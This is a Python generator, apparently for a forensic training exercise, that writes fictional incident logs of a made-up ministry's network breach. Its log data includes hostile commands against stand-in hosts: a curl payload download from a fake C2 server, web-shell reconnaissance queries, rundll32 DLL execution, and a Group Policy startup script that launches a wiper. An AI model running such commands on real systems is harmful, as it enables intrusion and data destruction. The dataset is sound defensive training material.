#!/usr/bin/env python3
"""Writes `logs/`: what the Ministry of the Interior of Rivenia logged on 23 and 24 February 2022.

The ministry, its partners and the attackers' addresses are made up (README.md). The output is committed; run this
only after a change here. Needs Python 3.9 and the `zstd` program. The plain files are the same on every machine; the
compressed ones differ with the version of the compressor.
"""

import bz2
import csv
import gzip
import hashlib
import io
import json
import lzma
import random
import shutil
import struct
import subprocess
import tarfile
import zipfile
import zlib
from datetime import datetime, timedelta, timezone
from pathlib import Path

OUT = Path(__file__).parent / "logs"
RNG = random.Random(20220223)

# The attackers.
LURE_HOST, LURE_IP = "docs.e-services-rivenia.example", "203.0.113.45"
LURE_URL = f"https://{LURE_HOST}/form/2022/annex7.iso"
LURE_SENDER = "notice@e-services-rivenia.example"
C2_HOST, C2_IP, C2_IP6 = "cdn.telemetry-sync.example", "203.0.113.77", "2001:db8:bad:c2::17"
VPN_IP = "203.0.113.99"  # in the listed net 203.0.113.96/28
DROP_HOST, DROP_IP = "rv-mail.dyn-host.example", "203.0.113.130"
AGENT = "RvSync/2.1 (compatible; telemetry)"
JA3 = hashlib.md5(b"perisai example client").hexdigest()

# Published hashes; their sources stand in README.md.
HERMETIC_SHA256 = "1bc44eef75779e3ca1eefb8ff5a64807dbc942b1e4a2672d77b9f6928d292591"
HERMETIC_SHA1 = "61b25d11392172e587d8da3045812a66c3385451"
WIZARD_SHA1 = "3c54c9a49a8ddca02189fe15fea52fe24f41a86f"
ISAAC_SHA1 = "ad602039c6f0237d4a997d5640e92ce5e2b3bba3"
CADDY_SHA256 = "a294620543334a721a2ae8eaaf9680a0786f4b9a216d75b55cfd28f39e9430ea"

# The Default Domain Policy has this id in every Windows domain.
POLICY = "{31B2F340-016D-11D2-945F-00C04FB984F9}"
POLICY_EXE = rf"\\moi.rivenia.example\SysVol\moi.rivenia.example\Policies\{POLICY}\Machine\cc.exe"

# The ministry.
DOMAIN = "moi.rivenia.example"
DC, WEB, FILES, ADMIN = "dc01", "web01", "files02", "ws-017"
INNER = {DC: "10.20.0.10", WEB: "10.20.1.20", FILES: "10.20.0.31", ADMIN: "10.20.4.17"}
PORTAL = f"portal.{DOMAIN}"
SHELL_PATH = "/assets/help.aspx"
USERS = ["a.calin", "b.dragan", "d.ilies", "i.moraru", "l.popa", "m.doru", "n.rusu", "s.vacar", "t.lupu", "v.stan"]
SITES = [
    ("www.rivenia.example", "198.51.100.20"), ("news.example", "198.51.100.130"), ("maps.example.org", "192.0.2.40"),
    ("mail.rivenia.example", "198.51.100.25"), ("weather.example.com", "192.0.2.81"), ("repo.example.net", "192.0.2.90"),
    # Near misses: none of them is what it looks like.
    ("not-telemetry-sync.example", "192.0.2.201"), (f"{C2_HOST}.org", "192.0.2.202"), ("e-services-rivenia.example.com", "192.0.2.203"),
]
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:97.0) Gecko/20100101 Firefox/97.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/98.0.4758.102 Safari/537.36",
]


def at(text):
    """`23 06:10:05` as a time of February 2022, in UTC."""
    return datetime.strptime("2022-02-" + text, "%Y-%m-%d %H:%M:%S").replace(tzinfo=timezone.utc)


def spread(count, start="23 04:00:00", end="24 05:00:00"):
    """Random times in order."""
    first, last = at(start), at(end)
    seconds = int((last - first).total_seconds())
    return sorted(first + timedelta(seconds=RNG.randrange(seconds)) for _ in range(count))


def iso(time, zone="Z"):
    return time.strftime("%Y-%m-%dT%H:%M:%S.") + f"{time.microsecond // 1000:03d}" + zone


def epoch(time):
    return f"{time.timestamp():.6f}"


def write(name, text, encoding="utf-8"):
    path = OUT / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text if isinstance(text, bytes) else text.encode(encoding))


def lines(rows):
    """`(time, line)` pairs, in order of time."""
    return "".join(line + "\n" for _, line in sorted(rows, key=lambda row: row[0]))


def jsonl(rows):
    return lines((time, json.dumps(value, separators=(",", ":"))) for time, value in rows)


def workstation():
    number = RNG.randrange(1, 60)
    return f"ws-{number:03d}", f"10.20.4.{number}"


# --- mail, proxy, DNS: the lure -----------------------------------------------------------------------------------

def mail():
    rows = []
    def add(time, who, text):
        rows.append((time, f"<22>{time.strftime('%b')} {time.day:2d} {time.strftime('%H:%M:%S')} mx1 postfix/{who}: {text}"))
    for time in spread(40):
        queue = f"{RNG.randrange(16**10):010X}"
        add(time, "smtpd[2114]", f"{queue}: client=mail.rivenia.example[198.51.100.25]")
        add(time, "qmgr[901]", f"{queue}: from=<{RNG.choice(USERS)}@rivenia.example>, size={RNG.randrange(2000, 90000)}, nrcpt=1 (queue active)")
        add(time, "lmtp[2120]", f"{queue}: to=<{RNG.choice(USERS)}@{DOMAIN}>, relay=local, delay=0.4, dsn=2.0.0, status=sent (250 2.0.0 Ok)")
    time = at("23 04:12:40")
    add(time, "smtpd[2114]", f"4JzLureM01: client=out.e-services-rivenia.example[{LURE_IP}]")
    add(time, "qmgr[901]", f"4JzLureM01: from=<{LURE_SENDER}>, size=48211, nrcpt=2 (queue active)")
    add(time, "cleanup[2117]", f"4JzLureM01: info: body {LURE_URL}; from=<{LURE_SENDER}> to=<m.doru@{DOMAIN}>")
    add(time, "lmtp[2120]", f"4JzLureM01: to=<m.doru@{DOMAIN}>, relay=local, delay=0.6, dsn=2.0.0, status=sent (250 2.0.0 Ok)")
    # RFC 3164 writes no year: the time that gzip keeps of the file says which it was.
    write("mail.log.1.gz", gzip.compress(lines(rows).encode(), 9, mtime=int(at("24 06:00:00").timestamp())))


def squid():
    rows = []
    def add(time, address, size, url, peer, user):
        rows.append((time, f"{time.timestamp():.3f} {RNG.randrange(20, 900):6d} {address} TCP_MISS/200 {size} GET {url} {user} HIER_DIRECT/{peer} text/html"))
    for time in spread(70):
        _, address = workstation()
        site, peer = RNG.choice(SITES)
        add(time, address, RNG.randrange(300, 90000), f"https://{site}/{RNG.choice(['', 'index.html', 'a/b?c=d', 'img/logo.png'])}", peer, RNG.choice(USERS))
    add(at("23 04:31:07"), INNER[ADMIN], 1474560, LURE_URL + "?src=mail", LURE_IP, "m.doru")
    write("squid/access.log", lines(rows))


def zeek_tsv(path, fields, types, rows):
    head = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", f"#path\t{path}",
            "#open\t2022-02-23-04-00-00", "#fields\t" + "\t".join(fields), "#types\t" + "\t".join(types)]
    body = ["\t".join(values) for _, values in sorted(rows, key=lambda row: row[0])]
    return "\n".join(head + body + ["#close\t2022-02-24-05-00-00"]) + "\n"


def zeek():
    dns, conn = [], []
    def query(time, address, name, answer, kind="A"):
        uid = "C" + f"{RNG.randrange(36**10):x}"
        dns.append((time, [epoch(time), uid, address, str(RNG.randrange(49152, 65000)), "10.20.0.53", "53", "udp", name, kind, "NOERROR", answer]))
        conn.append((time, [epoch(time), uid, address, "52011", "10.20.0.53", "53", "udp", "dns", "0.012", "60", "120", "SF"]))
    def connect(time, source, target, port, service, sent, received):
        conn.append((time, [epoch(time), "C" + f"{RNG.randrange(36**10):x}", source, str(RNG.randrange(49152, 65000)), target, port, "tcp", service, "12.4", sent, received, "SF"]))
    for time in spread(80):
        site, answer = RNG.choice(SITES)
        query(time, workstation()[1], site, answer)
    query(at("23 04:31:06"), INNER[ADMIN], LURE_HOST, LURE_IP)
    for number in range(6):
        time = at("23 05:02:00") + timedelta(minutes=53 * number)
        query(time, INNER[ADMIN], C2_HOST.upper() if number == 2 else C2_HOST, C2_IP)
        connect(time, INNER[ADMIN], C2_IP, "443", "ssl", "4180", "9211")
    query(at("23 11:40:12"), INNER[FILES], DROP_HOST, DROP_IP)
    connect(at("23 11:40:13"), INNER[FILES], DROP_IP, "443", "ssl", "734003200", "18211")
    connect(at("24 01:13:40"), "2001:db8:20::31", C2_IP6, "443", "ssl", "2100", "3400")
    write("zeek/dns.log", zeek_tsv("dns", ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "query", "qtype_name", "rcode_name", "answers"],
          ["time", "string", "addr", "port", "addr", "port", "enum", "string", "string", "string", "vector[string]"], dns))
    write("zeek/conn.log", zeek_tsv("conn", ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "service", "duration", "orig_bytes", "resp_bytes", "conn_state"],
          ["time", "string", "addr", "port", "addr", "port", "enum", "string", "interval", "count", "count", "string"], conn))
    ssl = []
    for time in spread(40):
        site, answer = RNG.choice(SITES)
        ssl.append((time, {"ts": iso(time), "uid": f"C{RNG.randrange(36**9):x}", "id.orig_h": workstation()[1], "id.orig_p": 51000, "id.resp_h": answer, "id.resp_p": 443,
                           "version": "TLSv13", "server_name": site, "ja3": hashlib.md5(site.encode()).hexdigest(), "established": True}))
    time = at("23 05:02:01")
    ssl.append((time, {"ts": iso(time), "uid": "C2beacon01", "id.orig_h": INNER[ADMIN], "id.orig_p": 51877, "id.resp_h": C2_IP, "id.resp_p": 443,
                       "version": "TLSv12", "server_name": C2_HOST, "ja3": JA3, "established": True}))
    write("zeek/ssl.json", jsonl(ssl))


# --- the web shell ------------------------------------------------------------------------------------------------

def web():
    nginx, iis = [], []
    def hit(time, address, path, status, size, agent, query="-"):
        shown = path if query == "-" else f"{path}?{query}"
        nginx.append((time, f'{address} - - [{time.strftime("%d/%b/%Y:%H:%M:%S +0000")}] "GET {shown} HTTP/1.1" {status} {size} "https://{PORTAL}/" "{agent}"'))
        iis.append((time, f'{time.strftime("%Y-%m-%d %H:%M:%S")} {INNER[WEB]} GET {path} {query} 443 - {address} {agent.replace(" ", "+")} {status} 0 0 {RNG.randrange(5, 300)}'))
    for time in spread(70):
        hit(time, f"192.0.2.{RNG.randrange(1, 250)}", RNG.choice(["/", "/forms", "/passport/status", "/assets/app.css", "/help"]), 200, RNG.randrange(200, 30000), RNG.choice(BROWSERS))
    for time, query in [("23 05:31:02", "-"), ("23 05:31:40", "k=9f2&cmd=whoami"), ("23 05:32:15", "k=9f2&cmd=ipconfig+%2Fall"), ("23 05:40:51", "k=9f2&cmd=net+group+%22Domain+Admins%22+%2Fdomain")]:
        hit(at(time), VPN_IP, SHELL_PATH, 200, RNG.randrange(90, 4000), AGENT, query)
    write("nginx/access.log", lines(row for row in nginx if row[0] >= at("23 05:35:00")))
    write("nginx/access.log.1.gz", gzip.compress(lines(row for row in nginx if row[0] < at("23 05:35:00")).encode(), 9, mtime=0))
    head = "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2022-02-23 04:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken\n"
    write("iis/u_ex220223.log", head + lines(iis))


# --- the way in: VPN and firewall ---------------------------------------------------------------------------------

def vpn_and_firewall():
    vpn, cef, leef, table = [], [], [], []
    def login(time, user, address, outcome):
        vpn.append((time, f'<86>1 {iso(time)} vpn1 sslvpnd 771 AUTH [auth@32473 user="{user}" src="{address}" result="{outcome}"] login of {user} from {address}: {outcome}'))
    def flow(time, source, target, port, action, sent):
        cef.append((time, f"CEF:0|Rivenia|Gate|7.1|100|traffic {action}|{3 if action == 'allow' else 5}|rt={int(time.timestamp() * 1000)} src={source} dst={target} dpt={port} proto=TCP act={action} out={sent} cs1Label=policy cs1=edge\\=default"))
    def waf(time, source, url, action):
        leef.append((time, f"LEEF:2.0|Rivenia|Waf|3.2|request|^|devTime={iso(time)}^src={source}^dst={INNER[WEB]}^url={url}^action={action}^sev=4"))
    for time in spread(50):
        login(time, RNG.choice(USERS), f"192.0.2.{RNG.randrange(1, 250)}", "success")
    for number in range(9):
        login(at("23 05:58:00") + timedelta(seconds=20 * number), RNG.choice(USERS[:4] + ["svc-backup"]), VPN_IP, "failure")
    login(at("23 06:01:20"), "svc-backup", VPN_IP, "success")
    for time in spread(50):
        site, target = RNG.choice(SITES)
        flow(time, workstation()[1], target, 443, "allow", RNG.randrange(500, 90000))
        waf(time, f"192.0.2.{RNG.randrange(1, 250)}", f"https://{PORTAL}/forms?id={RNG.randrange(9999)}", "pass")
        table.append((time, [iso(time), workstation()[1], site, "NOERROR", target]))
    flow(at("23 06:01:18"), VPN_IP, "198.51.100.7", 443, "allow", 22110)
    flow(at("23 11:40:13"), INNER[FILES], DROP_IP, 443, "allow", 734003200)
    flow(at("23 11:41:00"), "10.20.4.5", "198.51.100.53", 53, "allow", 80)  # our own resolver, listed by mistake
    waf(at("23 05:31:40"), VPN_IP, f"https://{PORTAL}{SHELL_PATH}?k=9f2&cmd=whoami", "pass")
    table.append((at("23 11:40:12"), [iso(at("23 11:40:12")), INNER[FILES], DROP_HOST, "NOERROR", DROP_IP]))
    write("vpn.log", lines(vpn))
    write("firewall.cef", lines(cef))
    write("waf.leef", lines(leef))
    text = io.StringIO()
    rows = csv.writer(text, lineterminator="\n")
    rows.writerow(["timestamp", "client_ip", "query", "rcode", "answer"])
    rows.writerows(row for _, row in sorted(table))
    write("resolver.csv", text.getvalue())


def suricata():
    rows = []
    for time in spread(50):
        site, target = RNG.choice(SITES)
        rows.append((time, {"timestamp": iso(time, "+0000"), "flow_id": RNG.randrange(10**15), "event_type": "http", "src_ip": workstation()[1], "src_port": 50123, "dest_ip": target, "dest_port": 80, "proto": "TCP",
                            "http": {"hostname": site, "url": "/", "http_user_agent": RNG.choice(BROWSERS), "http_method": "GET", "status": 200}}))
    def add(text, kind, **more):
        time = at(text)
        rows.append((time, {"timestamp": iso(time, "+0000"), "flow_id": RNG.randrange(10**15), "event_type": kind, **more}))
    add("23 05:02:02", "tls", src_ip=INNER[ADMIN], src_port=51877, dest_ip=C2_IP, dest_port=443, proto="TCP", tls={"sni": C2_HOST, "version": "TLS 1.2", "ja3": {"hash": JA3}})
    add("23 05:50:10", "http", src_ip=INNER[WEB], src_port=51902, dest_ip=C2_IP, dest_port=80, proto="TCP", http={"hostname": C2_HOST, "url": "/sync/2", "http_user_agent": AGENT, "http_method": "POST", "status": 204})
    add("23 13:20:30", "fileinfo", src_ip=INNER[ADMIN], dest_ip=INNER[FILES], proto="TCP", app_proto="smb", fileinfo={"filename": "\\Temp\\wzd_32.dll", "sha1": WIZARD_SHA1, "size": 311296, "stored": False})
    add("23 13:20:31", "alert", src_ip=INNER[ADMIN], dest_ip=INNER[FILES], dest_port=445, proto="TCP", alert={"signature": "LOCAL DLL copied over SMB to ADMIN$", "category": "Potentially Bad Traffic", "severity": 2})
    write("suricata/eve.json", jsonl(rows))


# --- hosts --------------------------------------------------------------------------------------------------------

def windows_event(time, provider, identity, channel, host, record, data):
    fields = "".join(f'<Data Name="{name}">{value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")}</Data>' for name, value in data.items())
    return (f'<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="{provider}"/><EventID>{identity}</EventID>'
            f'<Level>4</Level><TimeCreated SystemTime="{iso(time)}"/><EventRecordID>{record}</EventRecordID><Channel>{channel}</Channel>'
            f"<Computer>{host}.{DOMAIN}</Computer></System><EventData>{fields}</EventData></Event>")


def windows():
    events = []
    sysmon, security = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational"), ("Microsoft-Windows-Security-Auditing", "Security")
    def add(time, source, identity, host, **data):
        events.append((time, source, identity, host, data))
    def process(time, host, image, command, parent, user, **more):
        add(time, sysmon, 1, host, UtcTime=time.strftime("%Y-%m-%d %H:%M:%S.000"), Image=image, CommandLine=command, ParentImage=parent, User=f"MOI\\{user}", **more)
    for time in spread(30):
        name, _ = workstation()
        process(time, name, *RNG.choice([
            (r"C:\Windows\System32\svchost.exe", r"svchost.exe -k netsvcs -p", r"C:\Windows\System32\services.exe"),
            (r"C:\Program Files\Mozilla Firefox\firefox.exe", "firefox.exe -osint", r"C:\Windows\explorer.exe"),
            (r"C:\Windows\System32\cmd.exe", r"cmd.exe /c \\moi.rivenia.example\netlogon\map.cmd", r"C:\Windows\System32\userinit.exe"),
        ]), RNG.choice(USERS))
    for time in spread(24):
        add(time, security, 4624, DC, TargetUserName=RNG.choice(USERS), LogonType="3", IpAddress=workstation()[1])
    process(at("23 05:31:41"), WEB, r"C:\Windows\System32\cmd.exe", "cmd.exe /c whoami", r"C:\Windows\System32\inetsrv\w3wp.exe", "portal-pool")
    process(at("23 05:32:16"), WEB, r"C:\Windows\System32\cmd.exe", "cmd.exe /c ipconfig /all", r"C:\Windows\System32\inetsrv\w3wp.exe", "portal-pool")
    for number in range(12):
        add(at("23 06:20:00") + timedelta(seconds=9 * number), security, 4625, DC, TargetUserName="Administrator", LogonType="3", Status="0xc000006d", IpAddress="10.20.9.4")
    add(at("23 06:22:10"), security, 4624, DC, TargetUserName="Administrator", LogonType="3", IpAddress="10.20.9.4")
    process(at("23 13:21:02"), FILES, r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Windows\Temp\wzd_32.dll,#1 -i 10.20.0.31", r"C:\Windows\System32\wbem\WmiPrvSE.exe", "Administrator",
            Hashes=f"SHA1={WIZARD_SHA1.upper()}")
    add(at("23 14:40:03"), security, 5136, DC, SubjectUserName="Administrator", ObjectDN=f"CN={POLICY},CN=Policies,CN=System,DC=moi,DC=rivenia,DC=example",
        ObjectClass="groupPolicyContainer", AttributeLDAPDisplayName="gPCMachineExtensionNames", OperationType="%%14674")
    for host in [ADMIN, FILES, "ws-023"]:
        time = at("23 14:52:00") + timedelta(seconds=RNG.randrange(50))
        process(time, host, r"C:\Windows\System32\GroupPolicy\DataStore\0\sysvol\moi.rivenia.example\Policies" + rf"\{POLICY}\Machine\cc.exe", POLICY_EXE,
                r"C:\Windows\System32\gpscript.exe", "SYSTEM", Hashes=f"SHA1={HERMETIC_SHA1.upper()},SHA256={HERMETIC_SHA256.upper()}")
        add(time + timedelta(seconds=2), sysmon, 13, host, EventType="SetValue", Image=r"C:\Windows\System32\cc.exe",
            TargetObject=r"HKLM\System\CurrentControlSet\Control\CrashControl\CrashDumpEnabled", Details="DWORD (0x00000000)")
        add(time + timedelta(seconds=4), sysmon, 6, host, ImageLoaded=r"C:\Windows\System32\drivers\epdr.sys", Signature="Example Partition Tools", SignatureStatus="Revoked")
    body = "\n".join(windows_event(time, *source[:1], identity, source[1], host, 7000 + number, data)
                     for number, (time, source, identity, host, data) in enumerate(sorted(events, key=lambda event: event[0])))
    write("windows-events.xml", f'<?xml version="1.0" encoding="utf-8"?>\n<Events>\n{body}\n</Events>\n')


def edr():
    rows = []
    def add(time, host, category, **more):
        rows.append((time, {"@timestamp": iso(time), "ecs": {"version": "8.0.0"}, "event": {"kind": "event", "category": [category], "module": "edr"},
                            "host": {"name": host, "ip": [INNER.get(host, "10.20.4.99")]}, **more}))
    for time in spread(50):
        name, _ = workstation()
        site, target = RNG.choice(SITES)
        add(time, name, "network", process={"name": "firefox.exe", "pid": RNG.randrange(9999)}, destination={"ip": target, "port": 443, "domain": site})
    lure = {"name": "annex7.exe", "pid": 4411, "executable": "D:\\annex7.exe", "command_line": "D:\\annex7.exe", "parent": {"name": "explorer.exe"}}
    add(at("23 04:58:12"), ADMIN, "process", user={"name": "m.doru"}, process=lure)
    add(at("23 05:02:00"), ADMIN, "network", user={"name": "m.doru"}, process=lure, destination={"ip": C2_IP, "port": 443, "domain": C2_HOST})
    add(at("23 05:04:30"), ADMIN, "process", user={"name": "m.doru"}, process={
        "name": "rundll32.exe", "pid": 4502, "executable": "C:\\Windows\\System32\\rundll32.exe",
        "command_line": "rundll32.exe C:\\Users\\m.doru\\AppData\\Local\\Temp\\tsync.dll,#1", "parent": {"name": "annex7.exe"}})
    add(at("23 14:52:31"), FILES, "file", file={"name": "cc.exe", "path": "C:\\Windows\\System32\\GroupPolicy\\DataStore\\0\\cc.exe", "hash": {"sha256": HERMETIC_SHA256, "sha1": HERMETIC_SHA1}})
    add(at("24 01:15:09"), "branch-03", "file", file={"name": "clean.dll", "path": "C:\\ProgramData\\clean.dll", "hash": {"sha1": ISAAC_SHA1.upper()}})
    write("edr.jsonl", jsonl(rows))


def powershell():
    text = f"""**********************
Windows PowerShell transcript start
Start time: 20220223052210
Username: MOI\\m.doru
RunAs User: MOI\\m.doru
Machine: WS-017 (Microsoft Windows NT 10.0.19044.0)
Host Application: powershell.exe -NoProfile -WindowStyle Hidden
**********************
PS C:\\Users\\m.doru> Resolve-DnsName {C2_HOST}

Name                             Type   TTL   Section    IPAddress
----                             ----   ---   -------    ---------
{C2_HOST}       A      300   Answer     {C2_IP}
PS C:\\Users\\m.doru> nltest /dclist:{DOMAIN}
Get list of DCs in domain '{DOMAIN}' from '\\\\dc01.{DOMAIN}'.
PS C:\\Users\\m.doru> Get-FileHash .\\tsync.dll -Algorithm SHA1
PS C:\\Users\\m.doru> exit
**********************
Windows PowerShell transcript end
End time: 20220223052644
**********************
"""
    write("PowerShell_transcript.WS-017.20220223052210.txt", b"\xff\xfe" + text.replace("\n", "\r\n").encode("utf-16-le"))


def linux():
    audit, journal, app = [], [], []
    def command(time, serial, *words):
        head = f"msg=audit({time.timestamp():.3f}:{serial}):"
        quoted = " ".join(f'a{number}="{word}"' for number, word in enumerate(words))
        audit.append((time, f'type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 pid=3107 uid=33 auid=4294967295 comm="{words[0]}" exe="/usr/bin/{words[0]}" key="exec"\ntype=EXECVE {head} argc={len(words)} {quoted}'))
    def note(time, unit, text, **more):
        journal.append((time, {"__REALTIME_TIMESTAMP": str(int(time.timestamp() * 1e6)), "_HOSTNAME": "app03", "SYSLOG_IDENTIFIER": unit, "PRIORITY": "6", "MESSAGE": text, **more}))
    for number, time in enumerate(spread(50)):
        command(time, 2000 + number, *RNG.choice([("ls", "-l"), ("df", "-h"), ("run-parts", "/etc/cron.hourly")]))
        note(time, "sshd", f"Accepted publickey for deploy from 10.20.4.{RNG.randrange(1, 60)} port 50222 ssh2")
        app.append((time, f'time={iso(time)} level=info msg="request served" service=forms user={RNG.choice(USERS)} status=200 duration_ms={RNG.randrange(400)}'))
    command(at("24 00:41:10"), 2900, "curl", "-fsS", "-A", AGENT, "-o", "/tmp/.sync", f"http://{C2_HOST}/sync/l2")
    command(at("24 00:41:12"), 2901, "chmod", "+x", "/tmp/.sync")
    note(at("24 00:40:02"), "sshd", "Accepted password for svc-backup from 10.20.9.4 port 41020 ssh2")
    note(at("24 00:41:13"), "kernel", f"OUT=eth0 SRC=10.20.2.3 DST={C2_IP} PROTO=TCP DPT=80", _TRANSPORT="kernel")
    app.append((at("24 00:43:50"), f'time={iso(at("24 00:43:50"))} level=warn msg="upload refused" service=forms peer={C2_IP} sha256={CADDY_SHA256} file=annex9.bin'))
    write("audit.log", lines(audit))
    write("journal.json", jsonl(journal))
    write("forms-app.log", lines(app))


def cloud():
    rows = []
    def call(time, name, address, user, **more):
        rows.append((time, {"eventVersion": "1.08", "eventTime": time.strftime("%Y-%m-%dT%H:%M:%SZ"), "eventSource": "ec2.example", "eventName": name, "awsRegion": "rv-west-1",
                            "sourceIPAddress": address, "userAgent": "console.example", "userIdentity": {"type": "IAMUser", "userName": user}, **more}))
    for time in spread(40):
        call(time, RNG.choice(["DescribeInstances", "DescribeVolumes", "ListBuckets"]), f"10.20.4.{RNG.randrange(1, 60)}", "inventory")
    call(at("23 12:02:44"), "ConsoleLogin", VPN_IP, "svc-backup", responseElements={"ConsoleLogin": "Success"})
    for number in range(3):
        call(at("23 14:30:00") + timedelta(seconds=5 * number), "DeleteSnapshot", VPN_IP, "svc-backup", requestParameters={"snapshotId": f"snap-00{number}"})
    write("cloudtrail.json", json.dumps([row for _, row in sorted(rows, key=lambda row: row[0])], indent=1) + "\n")


# --- EVTX: one file of one chunk, with a template for each event -------------------------------------------------

CHUNK_SIZE, CHUNK_HEAD = 65536, 512


def utf16(text):
    return text.encode("utf-16-le")


class BinXml:
    """Binary XML (MS-EVEN6, section 2.2.12) at an offset of a chunk. Each name is written where it is first used."""

    def __init__(self, offset, names):
        self.offset, self.names, self.out = offset, names, bytearray()

    def put(self, layout, *values):
        self.out += struct.pack("<" + layout, *values)

    def name(self, text):
        here = self.offset + len(self.out) + 4
        known = self.names.setdefault(text, here)
        self.put("I", known)
        if known == here:
            value = 0
            for letter in text:
                value = (value * 65599 + ord(letter)) & 0xFFFFFFFF
            self.put("IHH", 0, value & 0xFFFF, len(text))
            self.out += utf16(text) + b"\0\0"

    def sized(self, write):
        """The four bytes of a length, and what it counts."""
        at = len(self.out)
        self.put("I", 0)
        write()
        struct.pack_into("<I", self.out, at, len(self.out) - at - 4)

    def text(self, value):
        self.put("BBH", 0x05, 0x01, len(value))
        self.out += utf16(value)

    def element(self, name, content, **attributes):
        def body():
            self.name(name)
            if attributes:
                self.sized(lambda: [self.attribute(key, value, key != list(attributes)[-1]) for key, value in attributes.items()])
            self.put("B", 0x02)
            for part in content if isinstance(content, list) else [content]:
                part() if callable(part) else self.text(part)
            self.put("B", 0x04)
        self.put("BH", 0x41 if attributes else 0x01, 0xFFFF)
        self.sized(body)

    def attribute(self, name, value, more):
        self.put("B", 0x46 if more else 0x06)
        self.name(name)
        self.text(value)

    def event(self, number, template, write):
        """A record's content: a template that holds all of the event, and no substitutions."""
        self.put("BBBBBBI", 0x0F, 1, 1, 0, 0x0C, 1, template)
        self.put("I", self.offset + len(self.out) + 4)
        self.put("I16s", 0, hashlib.md5(b"template%d" % number).digest())
        def definition():
            self.put("BBBB", 0x0F, 1, 1, 0)
            write()
            self.put("B", 0x00)
        self.sized(definition)
        self.put("I", 0)


def evtx(events, host):
    """`(time, provider, channel, id, data)` tuples as the bytes of an EVTX file."""
    names, records, last = {}, bytearray(), 0
    for number, (time, provider, channel, identity, data) in enumerate(events, 1):
        last = CHUNK_HEAD + len(records)
        xml = BinXml(last + 24, names)
        def system():
            xml.element("Provider", [], Name=provider)
            xml.element("EventID", str(identity))
            xml.element("TimeCreated", [], SystemTime=iso(time))
            xml.element("EventRecordID", str(number))
            xml.element("Channel", channel)
            xml.element("Computer", f"{host}.{DOMAIN}")
        def fields():
            for key, value in data.items():
                xml.element("Data", value, Name=key)
        xml.event(number, number, lambda: xml.element("Event", [lambda: xml.element("System", [system]), lambda: xml.element("EventData", [fields])],
                  xmlns="http://schemas.microsoft.com/win/2004/08/events/event"))
        size = 24 + len(xml.out) + 4
        filetime = int((time - datetime(1601, 1, 1, tzinfo=timezone.utc)).total_seconds()) * 10**7
        records += struct.pack("<IIQQ", 0x2A2A, size, number, filetime) + xml.out + struct.pack("<I", size)
    count = len(events)
    head = bytearray(CHUNK_HEAD)
    struct.pack_into("<8sQQQQIIII", head, 0, b"ElfChnk\0", 1, count, 1, count, 128, last, CHUNK_HEAD + len(records), zlib.crc32(records))
    struct.pack_into("<I", head, 124, zlib.crc32(head[:120] + head[128:]))
    chunk = bytes(head) + bytes(records) + bytes(CHUNK_SIZE - CHUNK_HEAD - len(records))
    file = bytearray(4096)
    struct.pack_into("<8sQQQIHHHH", file, 0, b"ElfFile\0", 0, 0, count + 1, 128, 1, 3, 4096, 1)
    struct.pack_into("<I", file, 124, zlib.crc32(file[:120]))
    return bytes(file) + chunk


def event_log():
    security, system = ("Microsoft-Windows-Security-Auditing", "Security"), ("Service Control Manager", "System")
    events = [(time, *security, 4624, {"TargetUserName": RNG.choice(USERS), "LogonType": "3", "IpAddress": workstation()[1]}) for time in spread(20)]
    events.append((at("23 05:40:52"), *security, 4688, {"SubjectUserName": "portal-pool", "NewProcessName": r"C:\Windows\System32\cmd.exe",
                   "CommandLine": 'cmd.exe /c net group "Domain Admins" /domain', "ParentProcessName": r"C:\Windows\System32\inetsrv\w3wp.exe"}))
    events.append((at("23 14:52:40"), *system, 7045, {"ServiceName": "epdr", "ImagePath": r"C:\Windows\System32\drivers\epdr.sys", "ServiceType": "kernel mode driver", "StartType": "demand start"}))
    write("web01-forwarded.evtx.gz", gzip.compress(evtx(sorted(events, key=lambda event: event[0]), WEB), 9, mtime=0))


# --- what responders collected ------------------------------------------------------------------------------------

def collected():
    script = (f"@echo off\r\nrem Found in SYSVOL by the responders. The program it names is not here.\r\n"
              f"copy /y {POLICY_EXE} %SystemRoot%\\System32\\cc.exe\r\nstart \"\" %SystemRoot%\\System32\\cc.exe\r\n")
    write("sysvol/startup.cmd", script)
    autoruns = f"Time,Entry,Image,SHA-1\n2022-02-23 13:21:05,WZD,C:\\Windows\\Temp\\wzd_32.dll,{WIZARD_SHA1}\n2022-01-10 08:00:00,OneSync,C:\\Windows\\System32\\onesync.dll,{'0' * 39}1\n"
    note = f"Triage of {FILES}, 24 February 2022\nOutgoing session to {DROP_HOST.replace('.', '[.]')} ({DROP_IP}), 700 MB.\n"
    with zipfile.ZipFile(OUT / "triage-files02.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in [("autoruns.csv", autoruns), ("notes/triage.txt", note)]:
            archive.writestr(zipfile.ZipInfo(name, (2022, 2, 24, 6, 0, 0)), text, zipfile.ZIP_DEFLATED)
    branch = [f"Feb 24 {time.strftime('%H:%M:%S')} branch-03 named[511]: client 10.30.0.{RNG.randrange(2, 40)}#5300: query: {RNG.choice(SITES)[0]} IN A" for time in spread(60, "24 00:00:00")]
    branch.append(f"Feb 24 01:13:39 branch-03 named[511]: client 10.30.0.12#5301: query: {C2_HOST}. IN AAAA")
    with gzip.GzipFile(OUT / "branch-03.tar.gz", "wb", 9, mtime=0) as outer, tarfile.open(fileobj=outer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, text in [("branch-03/named.log", "\n".join(sorted(branch)) + "\n"), ("branch-03/README", "Logs of branch 03, 24 February 2022\n")]:
            member = tarfile.TarInfo(name)
